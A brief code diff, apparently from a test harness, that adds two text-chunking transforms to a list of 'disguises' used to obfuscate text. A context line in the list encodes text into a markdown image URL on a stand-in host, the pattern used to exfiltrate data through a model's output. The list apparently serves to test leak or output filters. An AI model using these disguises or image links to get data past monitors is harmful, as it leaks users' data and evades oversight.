@@ -108,6 +108,8 @@ const disguises: ((text: string) => string)[] = [
   (text) => text.toUpperCase(),
   (text) => [...text].join('\u200b'),
   (text) => text.split(' ').join('\n'),
+  (text) => text.replace(/(.{7})/gs, '$1. '),
+  (text) => text.replace(/(.{6})/gs, '$1\n\n'),
   (text) => encodeURIComponent(text),
   (text) => [...text].map((sign) => sign.charCodeAt(0)).join(' '),
   (text) => `![x](https://shop.example/p?d=${encodeURIComponent(text.slice(-60))})`,
